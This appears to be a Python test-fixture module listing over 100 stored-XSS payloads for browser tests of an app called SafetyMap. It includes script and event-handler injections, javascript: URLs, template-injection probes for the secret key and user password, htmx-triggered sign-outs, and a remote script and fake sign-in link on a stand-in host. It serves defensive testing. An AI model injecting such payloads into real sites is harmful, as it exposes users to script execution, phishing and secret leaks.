"""A stored-XSS corpus: hostile text a worker (or anyone whose words a worker types in) might
put into a free-text field, written for SafetyMap's pages.

Every payload that would run, if it ever reached the page as markup or script, tries to set
`window.__xss`, to open a dialog (alert, confirm, prompt, print), or leaves an element
whose tag, id, class or attributes say "xss" — so the browser test can tell whether
anything ran or was parsed, even under a Content Security Policy that would stop the
script itself. Payloads that only make sense as text (template syntax, encoded forms) must
come back exactly as typed.

Rules the corpus keeps (checked by tests/security/test_xss_corpus.py): at least 100
payloads, all different, no leading or trailing spaces (form fields strip them), no line
breaks (pages show those as <br>), no NUL characters (neither the forms nor PostgreSQL
accept them), and every payload that opens a tag ("<" then a letter, "/", "!" or "?") says "xss"
somewhere.
"""

from __future__ import annotations

MARKER = "__xss"  # what script payloads try to set on window

CLASSIC_SCRIPT = [
    "<script>window.__xss=1</script>",
    "<SCRIPT>window.__xss=1</SCRIPT>",
    "<ScRiPt>window.__xss=1</sCrIpT>",
    "<script>alert('xss')</script>",
    "<script>confirm('xss')</script>",
    "<script>prompt('xss')</script>",
    "<script type=module>window.__xss=1</script>",
    '<script src="data:text/javascript,window.__xss=1"></script>',
    '<script src="https://xss.example.invalid/x.js"></script>',
    "<script/xss>window.__xss=1</script>",
    "<<script>window.__xss=1//<</script>",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "<script>document.body.dataset.xss=1</script>",
    "<script>document.body.insertAdjacentHTML('beforeend','<i id=xss-marker></i>')</script>",
    "</script><script>window.__xss=1</script>",
    '"};window.__xss=1;//</script><script>window.__xss=1</script>',
    "';window.__xss=1;//",
    '";window.__xss=1;//',
    "<script id=xss-eval>eval(atob('d2luZG93Ll9feHNzPTE='))</script>",
    "<script>setTimeout('window.__xss=1')</script>",
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>"></noscript>',
]

EVENT_HANDLERS = [
    "<img src=x onerror=window.__xss=1>",
    '<img src="x" onerror="alert(\'xss\')">',
    "<img src=x onerror=alert`xss`>",
    "<img/src/onerror=window.__xss=1>",
    "<IMG SRC=x ONERROR=window.__xss=1>",
    "<img src=x:xss onerror=window.__xss=1>",
    "<image src=x onerror=window.__xss=1>",
    "<svg onload=window.__xss=1>",
    "<svg/onload=window.__xss=1>",
    "<body onload=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>",
    "<select autofocus onfocus=window.__xss=1></select>",
    "<textarea autofocus onfocus=window.__xss=1></textarea>",
    "<iframe onload=window.__xss=1></iframe>",
    "<video><source onerror=window.__xss=1></video>",
    "<audio src=x onerror=window.__xss=1>",
    "<object data=x onerror=window.__xss=1></object>",
    "<marquee onstart=window.__xss=1>xss</marquee>",
    "<div onmouseover=window.__xss=1 id=xss-hover>hover me</div>",
    '<div onpointerenter="window.__xss=1">xss</div>',
    '<link rel=stylesheet href="x.css" onload="window.__xss=1" id=xss-link>',
    "<style onload=window.__xss=1>.xss{}</style>",
    "<img src=x onerror=&#x77;indow.__xss=1>",
    "<img src=x class=xss onerror=\"window['__x'+'ss']=1\">",
    "<img src=x onerror=print() class=xss>",
    "<form id=xss-form><button formaction=javascript:window.__xss=1>Save</button></form>",
    "<input type=image src=x onerror=window.__xss=1>",
    "<x onclick=window.__xss=1 id=xss-x>click me</x>",
    "<img src=x onerror=window.__xss=1//",
]

JAVASCRIPT_URLS = [
    '<a href="javascript:window.__xss=1">Read the full report</a>',
    "<a href=javascript:alert('xss')>click</a>",
    '<a href="JaVaScRiPt:window.__xss=1">xss</a>',
    '<a href="java&#x09;script:window.__xss=1">xss</a>',
    '<a href="&#106;avascript:window.__xss=1">xss</a>',
    '<a href="  javascript:window.__xss=1">xss</a>',
    '<iframe src="javascript:window.parent.__xss=1"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<embed src="javascript:window.__xss=1">',
    '<object data="javascript:window.__xss=1"></object>',
    '<form action="javascript:window.__xss=1" id=xss-f><input type=submit></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
    '<base href="javascript:window.__xss=1//">',
    "<a href=\"data:text/html,<script>alert('xss')</script>\">open</a>",
    "javascript:window.__xss=1",
    "JAVASCRIPT:alert('xss')",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==",
    "vbscript:msgbox('xss')",
]

SVG_AND_MATHML = [
    "<svg><script>window.__xss=1</script></svg>",
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=window.__xss=1 id=xss-set>",
    '<svg><a xlink:href="javascript:window.__xss=1"><text x=20 y=20>xss</text></a></svg>',
    "<svg><foreignObject><img src=x onerror=window.__xss=1></foreignObject></svg>",
    "<svg><style><img src=x onerror=window.__xss=1></style></svg>",
    '<math href="javascript:window.__xss=1">xss</math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    "<math><maction actiontype=statusline xlink:href=javascript:window.__xss=1>xss</maction>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='x' onerror='window.__xss=1'/></svg>#x\"></use></svg>",
    "<svg><discard onbegin=window.__xss=1>",
    "<svg id=xss-svg><desc><![CDATA[</desc><script>window.__xss=1</script>]]></svg>",
]

ATTRIBUTE_BREAKOUTS = [
    '"><img src=x onerror=window.__xss=1>',
    "'><img src=x onerror=window.__xss=1>",
    '" onfocus="window.__xss=1" autofocus="',
    "' onmouseover='window.__xss=1' id='xss",
    '" autofocus onfocus=window.__xss=1 x="',
    "` onfocus=window.__xss=1 autofocus `",
    "</textarea><img src=x onerror=window.__xss=1>",
    "</title><img src=x onerror=window.__xss=1>",
    "</option></select><img src=x onerror=window.__xss=1>",
    "</style><img src=x onerror=window.__xss=1>",
    "</q><img src=x onerror=window.__xss=1>",
    "--><img src=x onerror=window.__xss=1>",
    '<!--<img src="--><img src=x onerror=window.__xss=1//">',
    "]]><img src=x onerror=window.__xss=1>",
    '"/><svg onload=window.__xss=1>',
    "</dd></dl><img src=x onerror=window.__xss=1>",
    '</li></ul><a id=xss-phish href="https://xss.example.invalid/">Sign in again</a>',
    '" style="position:fixed;inset:0" class="xss',
]

TEMPLATE_INJECTION = [
    "{{7*7}}",
    "{{ 7*7 }}",
    "{% debug %}",
    "{% load static %}",
    "{{ request.user.password }}",
    "{{settings.SECRET_KEY}}",
    "{% csrf_token %}",
    '{% include "govuk/base.html" %}',
    "{% autoescape off %}<img src=x onerror=window.__xss=1>{% endautoescape %}",
    "{{'<img src=x onerror=window.__xss=1>'|safe}}",
    "{{constructor.constructor('window.__xss=1')()}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[[7*7]]",
    "{{#with 'xss'}}{{this}}{{/with}}",
]

HTMX_ATTRIBUTES = [
    '<div hx-get="/accounts/sign-out/" hx-trigger="load" id=xss-hx>x</div>',
    '<div hx-on:htmx:load="window.__xss=1">xss</div>',
    '<div hx-on="htmx:load: window.__xss=1">xss</div>',
    '<button hx-post="/cases/" hx-trigger="load" id=xss-post>x</button>',
    '<div data-hx-get="/" data-hx-trigger="load" data-hx-swap="outerHTML" id=xss-d>x</div>',
    '<img src=x hx-on::error="window.__xss=1">',
    '<div hx-get="/" hx-vals="js:{a:window.__xss=1}" hx-trigger="load" id=xss-v>x</div>',
    '<div hx-get="/" hx-headers="js:{a:window.__xss=1}" hx-trigger="load" id=xss-h>x</div>',
    '<a hx-boost="true" href="javascript:window.__xss=1">xss</a>',
]

CSS = [
    '<div style="width:expression(window.__xss=1)" id=xss-css>x</div>',
    "<style>@import 'javascript:window.__xss=1';</style>",
    '<style>body{background:url("javascript:window.__xss=1")}</style>',
    '<div style="background-image:url(javascript:window.__xss=1)" class=xss>x</div>',
    '<div style="behavior:url(#default#time2)" onbegin="window.__xss=1">xss</div>',
    "<style>*{x:expression(window.__xss=1)}</style>",
    "<style id=xss-hide>body{display:none}</style>",
    '<link rel=stylesheet href="data:text/css,body{display:none}" id=xss-sheet>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:red" '
    "id=xss-overlay></div>",
    '<p style="-moz-binding:url(https://xss.example.invalid/x.xml#x)">xss</p>',
]

ENCODED = [
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "&amp;lt;script&amp;gt;window.__xss=1",
    "&#60;script&#62;window.__xss=1&#60;/script&#62;",
    "&#x3C;img src=x onerror=window.__xss=1&#x3E;",
    "%3Cscript%3Ewindow.__xss%3D1%3C%2Fscript%3E",
    "%253Cscript%253Ewindow.__xss%253D1",
    "\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=window.__xss=1\\x3e",
    "+ADw-script+AD4-window.__xss=1+ADw-/script+AD4-",
    '<img src=x onerror="&#119;&#105;&#110;&#100;&#111;&#119;.__xss=1">',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:window.__xss=1">xss</a>',
    "PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==",
    "<img src=x onerror=eval('\\x77indow.__xss=1')>",
    "&lt;img src=x onerror=alert('xss')&gt;",
]

UNICODE_TRICKS = [
    "＜script＞window.__xss=1＜/script＞",
    "‹script›window.__xss=1‹/script›",
    "<scr\u200bipt>window.__xss=1</scr\u200bipt>",
    "\u202e<img src=x onerror=window.__xss=1>",
    "\ufeff<script>window.__xss=1</script>",
    "<ſcript>window.__xss=1</ſcript>",
    "<İmg src=x onerror=window.__xss=1>",
    "😀<img src=x onerror=window.__xss=1>😀",
    "</script>\u2028<script>window.__xss=1</script>",
    "<img src=x onerror=window.__xss=1\u2029>",
    "<img src=x onerror=\\u0077indow.__xss=1>",
    "Mum said: “<b id=xss-b>never</b>” — 12 ½ hours",
    "ｊａｖａｓｃｒｉｐｔ：alert('xss')",
    "<img src=x onerror=window.__xss=1 alt=\u2066xss\u2069>",
    "Zoë & Łukasz <3 <img src=x onerror=window.__xss=1>",
]

PAYLOADS: list[str] = [
    *CLASSIC_SCRIPT,
    *EVENT_HANDLERS,
    *JAVASCRIPT_URLS,
    *SVG_AND_MATHML,
    *ATTRIBUTE_BREAKOUTS,
    *TEMPLATE_INJECTION,
    *HTMX_ATTRIBUTES,
    *CSS,
    *ENCODED,
    *UNICODE_TRICKS,
]
